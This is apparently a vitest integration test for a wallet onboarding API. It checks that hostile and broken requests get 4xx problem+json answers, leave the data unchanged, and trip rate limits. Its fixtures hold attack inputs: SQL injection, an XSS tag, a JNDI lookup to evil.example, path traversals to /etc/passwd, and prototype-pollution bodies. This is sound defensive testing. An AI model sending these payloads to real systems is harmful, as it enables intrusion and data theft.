// SPEC §5 "Nothing a client sends yields a 500": hostile and broken requests against every kind
// of route. Each answers a 4xx problem+json with a stable code and no stack trace; the server
// stays up, and nothing in the database or the workflows changes.
import { randomBytes, randomUUID } from 'node:crypto';
import { count, eq } from 'drizzle-orm';
import type { SQLiteTable } from 'drizzle-orm/sqlite-core';
import { createSigner } from 'fast-jwt';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  applicantLogins,
  applications,
  auditLog,
  bankAccounts,
  outbox,
  walletTransactions,
  wallets,
  watchlist,
} from '../../db/sqlite/schema';
import { hashPassword } from '../../crypto/password-hash';
import { applicantClaims, TOKEN_ALGORITHM, TOKEN_ISSUER } from '../../api/tokens';
import { RATE_LIMITS } from '../../api/plugins/rate-limit';
import { PEOPLE } from '../fixtures/id-card';
import { apply, bearer, freshPerson, openBankAccount } from '../helpers/onboarding';
import { startStack, type Stack } from '../helpers/stack';

const PASSWORD = '580314';
// Many cases hit the same route and id; the limits themselves are checked at the end.
const SCALE = 10;

let stack: Stack;
let appId: string;
let appToken: string;
let walletId: string;
let walletToken: string;

beforeAll(async () => {
  stack = await startStack({ RATE_LIMIT_SCALE: String(SCALE) });
  const a = freshPerson(PEOPLE[0]!);
  await openBankAccount(stack, a);
  const created = await apply(stack, a);
  expect(created.statusCode, created.body).toBe(201);
  ({ applicationId: appId, applicantToken: appToken } = created.json());

  // A wallet with money in it, made directly: no onboarding needed for its routes.
  walletId = `w_${randomBytes(12).toString('hex')}`;
  const applicationId = randomUUID();
  stack.database.db
    .insert(wallets)
    .values({
      id: walletId,
      applicationId,
      personId: `person-${walletId}`,
      tier: 'STANDARD',
      status: 'ACTIVE',
      balance: 10_000,
      paymentPasswordHash: await hashPassword(PASSWORD),
      createdAt: new Date(),
      updatedAt: new Date(),
    })
    .run();
  const sign = createSigner({
    key: stack.config.authSecret,
    algorithm: TOKEN_ALGORITHM,
    expiresIn: '1h',
    iss: TOKEN_ISSUER,
  });
  walletToken = sign({ ...applicantClaims(applicationId) });
});
afterAll(async () => {
  await stack?.close();
});

interface Case {
  name: string;
  method: 'GET' | 'POST' | 'PUT' | 'DELETE' | 'PATCH';
  url: string;
  token?: string | null;
  headers?: Record<string, string>;
  /** An object is sent as JSON; a string or Buffer as is (content-type application/json). */
  body?: unknown;
  raw?: string | Buffer;
  status?: number;
}

const ops = () => stack.staffToken('ops', 'olga');
const reviewer = () => stack.staffToken('reviewer', 'rita');

async function send(c: Case) {
  const headers: Record<string, string> = {
    ...(c.token ? bearer(c.token) : {}),
    ...(c.method !== 'GET' && (c.body !== undefined || c.raw !== undefined)
      ? { 'content-type': 'application/json' }
      : {}),
    ...c.headers,
  };
  return stack.api.inject({
    method: c.method,
    url: c.url,
    headers,
    ...(c.raw !== undefined
      ? { payload: c.raw }
      : c.body !== undefined
        ? { payload: JSON.stringify(c.body) }
        : {}),
  });
}

function expectProblem(c: Case, res: Awaited<ReturnType<typeof send>>) {
  const label = `${c.name}: ${c.method} ${c.url.slice(0, 120)} → ${res.statusCode} ${res.body.slice(0, 300)}`;
  if (c.status) expect(res.statusCode, label).toBe(c.status);
  expect(res.statusCode, label).toBeGreaterThanOrEqual(400);
  expect(res.statusCode, label).toBeLessThan(500);
  expect(res.headers['content-type'], label).toMatch(/^application\/problem\+json/);
  const body = res.json();
  expect(typeof body.code, label).toBe('string');
  expect(body.code.length, label).toBeGreaterThan(0);
  expect(body.status, label).toBe(res.statusCode);
  expect(res.body, label).not.toMatch(/\bat .+:\d+:\d+|node_modules|\.ts:\d+|Error:/);
}

async function snapshot() {
  const db = stack.database.db;
  const rows = (table: SQLiteTable) => db.select({ n: count() }).from(table).get()!.n;
  const wallet = db.select().from(wallets).where(eq(wallets.id, walletId)).get()!;
  // The owner's view: staff reads are themselves audited.
  const viewed = await stack.api.inject({
    url: `/v1/applications/${appId}`,
    headers: bearer(appToken),
  });
  expect(viewed.statusCode, viewed.body).toBe(200);
  const view = viewed.json();
  return {
    balance: wallet.balance,
    walletStatus: wallet.status,
    passwordFailures: wallet.paymentPasswordFailures,
    transactions: db
      .select({ n: count() })
      .from(walletTransactions)
      .where(eq(walletTransactions.walletId, walletId))
      .get()!.n,
    tables: {
      applications: rows(applications),
      auditLog: rows(auditLog),
      bankAccounts: rows(bankAccounts),
      outbox: rows(outbox),
      watchlist: rows(watchlist),
      wallets: rows(wallets),
      applicantLogins: rows(applicantLogins),
    },
    application: {
      status: view.status,
      attemptsLeft: view.attemptsLeft,
      updatedAt: view.updatedAt,
    },
  };
}

/** The snapshot once the application's own background work (messages, audit) has settled. */
async function settledSnapshot() {
  let last = await snapshot();
  for (let i = 0; i < 40; i++) {
    await new Promise((resolve) => setTimeout(resolve, 250));
    const next = await snapshot();
    if (JSON.stringify(next) === JSON.stringify(last)) return next;
    last = next;
  }
  return last;
}

const INJECTIONS = [
  "' OR 1=1 --",
  '"; DROP TABLE wallets; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example/a}',
  'a\u0000b',
  '{{7*7}}',
  '../../etc/passwd',
];
const TRAVERSALS = [
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%252F..%252Fetc%252Fpasswd',
  '..%5C..%5Cwindows%5Cwin.ini',
  '%00',
  '%2e%2e',
  '.%00.',
  'a'.repeat(101),
];

function cases(): Case[] {
  const W = `/v1/wallets/${walletId}`;
  const A = `/v1/applications/${appId}`;
  const money = (path: string, body: unknown, name: string, extra: Partial<Case> = {}): Case => ({
    name,
    method: 'POST',
    url: `${W}/${path}`,
    token: walletToken,
    headers: { 'idempotency-key': `bad-${randomUUID()}` },
    body,
    ...extra,
  });
  const list: Case[] = [];
  const jsonRoutes: Case[] = [
    { name: 'sessions', method: 'POST', url: '/v1/sessions' },
    { name: 'applications', method: 'POST', url: '/v1/applications' },
    { name: 'otp verify', method: 'POST', url: `${A}/otp/verify`, token: appToken },
    { name: 'resubmission', method: 'POST', url: `${A}/resubmission`, token: appToken },
    { name: 'payment password', method: 'POST', url: `${A}/payment-password`, token: appToken },
    { name: 'decision', method: 'POST', url: `${A}/decision`, token: reviewer() },
    { name: 'watchlist', method: 'POST', url: '/v1/ops/watchlist', token: ops() },
    { name: 'bank account', method: 'POST', url: '/v1/sandbox/bank-accounts', token: ops() },
    money('top-ups', undefined, 'top-up'),
    money('payments', undefined, 'payment'),
    money('withdrawals', undefined, 'withdrawal'),
    { name: 'deregistration', method: 'POST', url: `${W}/deregistration`, token: walletToken },
    {
      name: 'payment password change',
      method: 'PUT',
      url: `${W}/payment-password`,
      token: walletToken,
    },
    {
      name: 'login password change',
      method: 'PUT',
      url: '/v1/sessions/password',
      token: walletToken,
    },
    { name: 'device verify', method: 'POST', url: '/v1/sessions/verify' },
    { name: 'password reset', method: 'POST', url: '/v1/password-resets' },
    { name: 'password reset verify', method: 'POST', url: '/v1/password-resets/verify' },
  ];

  // Malformed JSON (and JSON that is not an object).
  for (const raw of [
    '{',
    '{"amount": }',
    "{'amount': 100}",
    '{"amount":100}garbage',
    '{"amount": NaN}',
    '{"amount": 0x10}',
    '{"amount": 1,}',
    'null',
    '[]',
    '"text"',
    '12',
  ])
    for (const route of jsonRoutes) list.push({ ...route, name: `${route.name} ← ${raw}`, raw });
  // An empty body where JSON is required.
  for (const route of jsonRoutes.filter((r) => r.name !== 'deregistration'))
    list.push({ ...route, name: `${route.name} ← empty`, raw: '', status: 400 });

  // Oversized bodies: past the 16 KiB JSON limit, past the 64 KiB global one, past 1 MiB.
  for (const size of [17 * 1024, 70 * 1024])
    for (const route of jsonRoutes.filter((r) => r.name !== 'watchlist'))
      list.push({
        ...route,
        name: `${route.name} ← ${size} bytes`,
        raw: JSON.stringify({ amount: 1, pad: 'x'.repeat(size) }),
        status: 413,
      });
  list.push({
    name: 'watchlist ← 1.1 MiB',
    method: 'POST',
    url: '/v1/ops/watchlist',
    token: ops(),
    raw: JSON.stringify({ name: '张三', source: 'x'.repeat(1_150_000) }),
    status: 413,
  });

  // Unexpected content types on JSON routes.
  for (const type of [
    'text/plain',
    'application/xml',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'image/jpeg',
    'application/octet-stream',
  ])
    for (const route of jsonRoutes)
      list.push({
        ...route,
        name: `${route.name} as ${type}`,
        headers: { ...route.headers, 'content-type': type },
        raw: type === 'application/xml' ? '<amount>100</amount>' : 'amount=100',
        status: 415,
      });
  list.push({
    ...money('top-ups', undefined, 'top-up in UTF-16'),
    headers: { 'content-type': 'application/json; charset=utf-16', 'idempotency-key': 'k-utf16' },
    raw: Buffer.from('{"amount":100}', 'utf16le'),
  });

  // Wrong types.
  for (const amount of ['100', true, [100], { value: 100 }, null])
    for (const path of ['top-ups', 'withdrawals', 'payments'])
      list.push(
        money(
          path,
          { amount, paymentPassword: PASSWORD, merchantId: 'm1' },
          `${path} amount ${JSON.stringify(amount)}`,
          {
            status: 400,
          },
        ),
      );
  list.push(
    money(
      'payments',
      { amount: 100, merchantId: 123, paymentPassword: PASSWORD },
      'merchantId number',
    ),
    money(
      'payments',
      { amount: 100, merchantId: 'm1', paymentPassword: 580314 },
      'password number',
    ),
    money('withdrawals', { amount: 100, paymentPassword: null }, 'password null'),
    {
      name: 'otp code number',
      method: 'POST',
      url: `${A}/otp/verify`,
      token: appToken,
      body: { code: 123456 },
    },
    {
      name: 'reset kind unknown',
      method: 'POST',
      url: '/v1/password-resets',
      body: { phone: '13800138000', kind: 'PIN' },
    },
    {
      name: 'reset phone malformed',
      method: 'POST',
      url: '/v1/password-resets',
      body: { phone: '1380013800x', kind: 'LOGIN' },
    },
    {
      name: 'reset verify id number malformed',
      method: 'POST',
      url: '/v1/password-resets/verify',
      body: { phone: '13800138000', code: '123456', idNumber: '123', newPassword: 'abc12345' },
    },
    {
      name: 'device verify code number',
      method: 'POST',
      url: '/v1/sessions/verify',
      body: { phone: '13800138000', deviceId: 'd', code: 123456 },
    },
    {
      name: 'payment password change number',
      method: 'PUT',
      url: `${W}/payment-password`,
      token: walletToken,
      body: { oldPaymentPassword: 580314, newPaymentPassword: '731592' },
    },
    {
      name: 'login password change extra field',
      method: 'PUT',
      url: '/v1/sessions/password',
      token: walletToken,
      body: { oldPassword: 'a', newPassword: 'b', admin: true },
    },
    {
      name: 'statement format xml',
      method: 'GET',
      url: `${W}/statement?format=xml`,
      token: walletToken,
    },
    {
      name: 'sessions phone number',
      method: 'POST',
      url: '/v1/sessions',
      body: { phone: 13800138000, password: 'x' },
    },
    {
      name: 'decision boolean',
      method: 'POST',
      url: `${A}/decision`,
      token: reviewer(),
      body: { decision: true },
    },
    {
      name: 'watchlist name array',
      method: 'POST',
      url: '/v1/ops/watchlist',
      token: ops(),
      body: { name: ['张三'], source: 'UN' },
    },
    {
      name: 'bank account bool string',
      method: 'POST',
      url: '/v1/sandbox/bank-accounts',
      token: ops(),
      body: {
        holderName: '张三',
        idNumber: '11010519491231002X',
        cardNumber: '6222020000000000008',
        status: 'NORMAL',
        realNameVerified: 'true',
      },
    },
    {
      name: 'freeze reason number',
      method: 'POST',
      url: `${W}/freeze`,
      token: ops(),
      body: { reason: 42 },
    },
    {
      name: 'application fields numbers',
      method: 'POST',
      url: '/v1/applications',
      body: { name: 1, idNumber: 2, phone: 3, bankCardNumber: 4, appVersion: 5, loginPassword: 6 },
    },
  );

  // Amounts: negative, zero, fractional, huge, not representable.
  for (const raw of [
    '-1',
    '0',
    '-0',
    '0.5',
    '1.5',
    '1e-7',
    '1e400',
    '-1e400',
    String(2 ** 60),
    '9007199254740993',
    '1e308',
    '100.0000000000000001',
  ])
    for (const path of ['top-ups', 'withdrawals', 'payments'])
      list.push({
        ...money(path, undefined, `${path} amount ${raw}`),
        raw: `{"amount":${raw},"paymentPassword":"${PASSWORD}","merchantId":"m1"}`,
        // 100.0000000000000001 parses as 100: a valid amount, so it is left out below.
      });

  // Injection strings where the API takes text.
  for (const s of INJECTIONS) {
    list.push(
      money(
        'payments',
        { amount: 100, merchantId: s, paymentPassword: PASSWORD },
        `merchantId ${JSON.stringify(s)}`,
        { status: 400 },
      ),
      {
        name: `name ${JSON.stringify(s)}`,
        method: 'POST',
        url: '/v1/applications',
        body: {
          name: s,
          idNumber: '11010519491231002X',
          phone: '13800138000',
          bankCardNumber: '6222020000000000008',
          appVersion: '3.2.0',
          loginPassword: 'secret123',
        },
        status: 400,
      },
      {
        name: `resubmission name ${JSON.stringify(s)}`,
        method: 'POST',
        url: `${A}/resubmission`,
        token: appToken,
        body: { name: s },
        status: 400,
      },
      {
        name: `watchlist birthDate ${JSON.stringify(s)}`,
        method: 'POST',
        url: '/v1/ops/watchlist',
        token: ops(),
        body: { name: '张三', birthDate: s, source: 'UN' },
        status: 400,
      },
      {
        name: `reviews status ${JSON.stringify(s)}`,
        method: 'GET',
        url: `/v1/reviews?status=${encodeURIComponent(s)}`,
        token: reviewer(),
        status: 400,
      },
      {
        name: `transactions cursor ${JSON.stringify(s)}`,
        method: 'GET',
        url: `${W}/transactions?cursor=${encodeURIComponent(s)}`,
        token: walletToken,
        status: 400,
      },
      {
        name: `outbox cursor ${JSON.stringify(s)}`,
        method: 'GET',
        url: `/v1/sandbox/outbox?cursor=${encodeURIComponent(s)}`,
        token: ops(),
        status: 400,
      },
      {
        ...money('top-ups', { amount: 100 }, `idempotency key ${JSON.stringify(s)}`),
        headers: { 'idempotency-key': encodeURIComponent(s) + '/' },
        status: 400,
      },
    );
  }

  // Invalid unicode: lone surrogates in JSON strings, invalid UTF-8 bytes.
  for (const raw of [
    `{"name":"\\ud800","idNumber":"11010519491231002X","phone":"13800138000","bankCardNumber":"6222020000000000008","appVersion":"3.2.0","loginPassword":"secret123"}`,
    `{"name":"张\\udfff三","idNumber":"11010519491231002X","phone":"13800138000","bankCardNumber":"6222020000000000008","appVersion":"3.2.0","loginPassword":"secret123"}`,
  ])
    list.push({
      name: `lone surrogate ${raw.slice(9, 22)}`,
      method: 'POST',
      url: '/v1/applications',
      raw,
      status: 400,
    });
  list.push(
    {
      ...money('payments', undefined, 'merchantId lone surrogate'),
      raw: `{"amount":1,"merchantId":"m\\ud800","paymentPassword":"${PASSWORD}"}`,
      status: 400,
    },
    {
      name: 'otp lone surrogate',
      method: 'POST',
      url: `${A}/otp/verify`,
      token: appToken,
      raw: '{"code":"12345\\ud800"}',
      status: 400,
    },
    {
      name: 'invalid utf-8 bytes',
      method: 'POST',
      url: `${A}/otp/verify`,
      token: appToken,
      raw: Buffer.from([
        0x7b, 0x22, 0x63, 0x6f, 0x64, 0x65, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x80, 0x22, 0x7d,
      ]),
      status: 400,
    },
  );

  // Duplicate keys (the last one wins, and is invalid) and prototype pollution.
  list.push(
    {
      ...money('top-ups', undefined, 'duplicate amount'),
      raw: '{"amount":100,"amount":-5}',
      status: 400,
    },
    {
      name: 'duplicate code',
      method: 'POST',
      url: `${A}/otp/verify`,
      token: appToken,
      raw: '{"code":"123456","code":"x"}',
      status: 400,
    },
    {
      ...money('top-ups', undefined, '__proto__'),
      raw: '{"__proto__":{"isAdmin":true},"amount":100}',
      status: 400,
    },
    {
      ...money('top-ups', undefined, 'constructor.prototype'),
      raw: '{"constructor":{"prototype":{"isAdmin":true}},"amount":100}',
      status: 400,
    },
    {
      name: 'watchlist __proto__ entry',
      method: 'POST',
      url: '/v1/ops/watchlist',
      token: ops(),
      raw: '{"entries":[{"__proto__":{"polluted":1},"name":"张三","source":"UN"}]}',
      status: 400,
    },
    {
      ...money('top-ups', undefined, 'deeply nested array'),
      raw: `{"amount":${'['.repeat(5000)}${']'.repeat(5000)}}`,
      status: 400,
    },
    {
      ...money('top-ups', undefined, 'deeply nested object'),
      raw: `${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}`,
      status: 400,
    },
  );

  // Unknown ids.
  const uuid = randomUUID();
  list.push(
    {
      name: 'unknown application, staff',
      method: 'GET',
      url: `/v1/applications/${uuid}`,
      token: ops(),
      status: 404,
    },
    {
      name: 'unknown application, applicant',
      method: 'GET',
      url: `/v1/applications/${uuid}`,
      token: appToken,
      status: 404,
    },
    {
      name: 'unknown application photo',
      method: 'GET',
      url: `/v1/applications/${uuid}/id-photo`,
      token: reviewer(),
      status: 404,
    },
    {
      name: 'unknown application decision',
      method: 'POST',
      url: `/v1/applications/${uuid}/decision`,
      token: reviewer(),
      body: { decision: 'APPROVE' },
      status: 404,
    },
    {
      name: 'unknown wallet',
      method: 'GET',
      url: '/v1/wallets/w_0000000000000000000000',
      token: ops(),
      status: 404,
    },
    {
      name: 'unknown wallet uuid',
      method: 'GET',
      url: `/v1/wallets/${uuid}/transactions`,
      token: ops(),
      status: 404,
    },
    {
      name: 'unknown wallet freeze',
      method: 'POST',
      url: `/v1/wallets/${uuid}/freeze`,
      token: ops(),
      body: {},
      status: 404,
    },
    {
      name: 'unknown wallet deregistration',
      method: 'GET',
      url: `/v1/wallets/${uuid}/deregistration`,
      token: ops(),
      status: 404,
    },
    {
      ...money('top-ups', { amount: 1 }, 'unknown wallet top-up'),
      url: `/v1/wallets/${uuid}/top-ups`,
      status: 404,
    },
    { name: 'unknown route', method: 'GET', url: '/v1/nothing-here', status: 404 },
    { name: 'wrong method', method: 'DELETE', url: W, token: ops(), status: 404 },
    {
      name: 'PATCH application',
      method: 'PATCH',
      url: A,
      token: appToken,
      body: { status: 'ACTIVE' },
      status: 404,
    },
  );

  // Path traversal in :id params and in the docs' static files.
  for (const t of TRAVERSALS)
    list.push(
      { name: `application id ${t}`, method: 'GET', url: `/v1/applications/${t}`, token: ops() },
      {
        name: `photo id ${t}`,
        method: 'GET',
        url: `/v1/applications/${t}/id-photo`,
        token: reviewer(),
      },
      { name: `wallet id ${t}`, method: 'GET', url: `/v1/wallets/${t}/transactions`, token: ops() },
      { ...money('top-ups', { amount: 1 }, `top-up wallet ${t}`), url: `/v1/wallets/${t}/top-ups` },
    );
  list.push(
    {
      name: 'dot segments',
      method: 'GET',
      url: '/v1/applications/../../../etc/passwd',
      token: ops(),
    },
    {
      name: 'docs static traversal',
      method: 'GET',
      url: '/docs/static/..%2F..%2F..%2Fpackage.json',
    },
    {
      name: 'docs static traversal 2',
      method: 'GET',
      url: '/docs/static/%2e%2e/%2e%2e/%2e%2e/package.json',
    },
    { name: 'bad percent-encoding', method: 'GET', url: '/v1/applications/%E0%A4%A', token: ops() },
    { name: 'lone percent', method: 'GET', url: '/v1/wallets/%/transactions', token: ops() },
  );

  // Query strings.
  for (const q of [
    'limit=0',
    'limit=-1',
    'limit=1e400',
    'limit=abc',
    'limit=1.5',
    'limit=101',
    'limit=1&limit=2',
    'cursor=0',
    'cursor=99999999999999999999',
  ])
    list.push(
      {
        name: `transactions ?${q}`,
        method: 'GET',
        url: `${W}/transactions?${q}`,
        token: walletToken,
        status: 400,
      },
      {
        name: `outbox ?${q}`,
        method: 'GET',
        url: `/v1/sandbox/outbox?${q}`,
        token: ops(),
        status: 400,
      },
    );
  const forgedCursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  for (const cursor of [
    { t: 1e300, id: 'x' },
    { t: -1e20, id: 'x' },
    { t: 'x', id: 1 },
    [1, 2],
    'plain',
  ])
    list.push({
      name: `reviews forged cursor ${JSON.stringify(cursor)}`,
      method: 'GET',
      url: `/v1/reviews?cursor=${forgedCursor(cursor)}`,
      token: reviewer(),
      status: 400,
    });

  // Headers.
  list.push(
    { ...money('top-ups', { amount: 100 }, 'no idempotency key'), headers: {}, status: 400 },
    {
      ...money('top-ups', { amount: 100 }, 'long idempotency key'),
      headers: { 'idempotency-key': 'k'.repeat(200) },
      status: 400,
    },
    {
      name: 'Basic auth',
      method: 'GET',
      url: W,
      headers: { authorization: 'Basic YTpi' },
      status: 401,
    },
    {
      name: 'Bearer without token',
      method: 'GET',
      url: W,
      headers: { authorization: 'Bearer' },
      status: 401,
    },
    {
      name: 'Bearer garbage',
      method: 'GET',
      url: W,
      headers: { authorization: 'Bearer a.b.c' },
      status: 401,
    },
    {
      name: 'Bearer injection',
      method: 'GET',
      url: W,
      headers: { authorization: "Bearer ' OR 1=1 --" },
      status: 401,
    },
  );

  // The photo route: only images (or multipart) are read; everything else is a 415 before any
  // attempt is counted.
  for (const [type, raw] of [
    ['text/plain', 'just some text, not an image'],
    ['application/xml', '<?xml version="1.0"?><svg/>'],
    ['application/json', '{"photo":"../../etc/passwd"}'],
    ['image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ['image/gif', 'GIF89a'],
    ['application/x-www-form-urlencoded', 'photo=../../etc/passwd'],
  ] as const)
    list.push({
      name: `photo as ${type}`,
      method: 'PUT',
      url: `${A}/id-photo`,
      token: appToken,
      headers: { 'content-type': type },
      raw,
      status: 415,
    });
  list.push(
    {
      name: 'photo too large',
      method: 'PUT',
      url: `${A}/id-photo`,
      token: appToken,
      headers: { 'content-type': 'image/jpeg' },
      raw: Buffer.alloc(10 * 1024 * 1024 + 1, 0xff),
      status: 413,
    },
    {
      name: 'multipart without photo field',
      method: 'PUT',
      url: `${A}/id-photo`,
      token: appToken,
      headers: { 'content-type': 'multipart/form-data; boundary=X' },
      raw: '--X\r\nContent-Disposition: form-data; name="other"; filename="../../etc/passwd"\r\nContent-Type: image/jpeg\r\n\r\nabc\r\n--X--\r\n',
      status: 400,
    },
    {
      name: 'broken multipart',
      method: 'PUT',
      url: `${A}/id-photo`,
      token: appToken,
      headers: { 'content-type': 'multipart/form-data; boundary=X' },
      raw: '--X\r\ngarbage',
    },
  );
  return list.filter(
    (c) => !(c.raw && typeof c.raw === 'string' && c.raw.includes('100.0000000000000001')),
  );
}

describe('bad input', () => {
  it('answers every hostile or broken request with a 4xx problem and changes nothing', async () => {
    const before = await settledSnapshot();
    const all = cases();
    const failures: string[] = [];
    for (const c of all) {
      const res = await send(c);
      try {
        expectProblem(c, res);
      } catch (error) {
        failures.push((error as Error).message.split('\n')[0]!);
      }
    }
    expect(failures, `${failures.length} of ${all.length} cases`).toEqual([]);
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(await snapshot()).toEqual(before);
    const health = await stack.api.inject({ method: 'GET', url: '/healthz' });
    expect(health.statusCode).toBe(200);
  });

  it('ignores unknown query parameters, __proto__ included', async () => {
    const res = await stack.api.inject({
      method: 'GET',
      url: `/v1/wallets/${walletId}/transactions?unknown=1&__proto__=x&constructor=y`,
      headers: bearer(walletToken),
    });
    expect(res.statusCode, res.body).toBe(200);
    expect(({} as Record<string, unknown>).x).toBeUndefined();
  });

  it('treats injection strings in search filters as plain values', async () => {
    for (const s of INJECTIONS) {
      const res = await stack.api.inject({
        method: 'GET',
        url: `/v1/sandbox/outbox?recipient=${encodeURIComponent(s)}`,
        headers: bearer(ops()),
      });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().items).toEqual([]);
    }
  });
});

describe('rate limits', () => {
  async function hammer(limit: number, request: () => Promise<Awaited<ReturnType<typeof send>>>) {
    const statuses: number[] = [];
    for (let i = 0; i < limit; i++) statuses.push((await request()).statusCode);
    expect(statuses).not.toContain(429);
    const last = await request();
    expect(last.statusCode, last.body).toBe(429);
    expect(last.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(last.headers['retry-after']).toMatch(/^[1-9]\d*$/);
    expect(last.json()).toMatchObject({ status: 429, code: 'TOO_MANY_REQUESTS' });
  }

  it('slows down code guessing per application and client: 429 with Retry-After', async () => {
    const other = randomUUID();
    await hammer(RATE_LIMITS.otpVerify.max * SCALE, () =>
      send({
        name: 'otp',
        method: 'POST',
        url: `/v1/applications/${other}/otp/verify`,
        token: appToken,
        body: { code: '123456' },
      }),
    );
    // Another application is counted apart.
    const res = await send({
      name: 'otp',
      method: 'POST',
      url: `/v1/applications/${randomUUID()}/otp/verify`,
      token: appToken,
      body: { code: '123456' },
    });
    expect(res.statusCode).toBe(404);
  });

  it('slows down payment-password guessing per wallet and client', async () => {
    const other = `w_${randomBytes(12).toString('hex')}`;
    await hammer(RATE_LIMITS.money.max * SCALE, () =>
      send({
        name: 'pay',
        method: 'POST',
        url: `/v1/wallets/${other}/payments`,
        token: walletToken,
        headers: { 'idempotency-key': randomUUID() },
        body: { amount: 1, merchantId: 'm1', paymentPassword: '000000' },
      }),
    );
  });
});
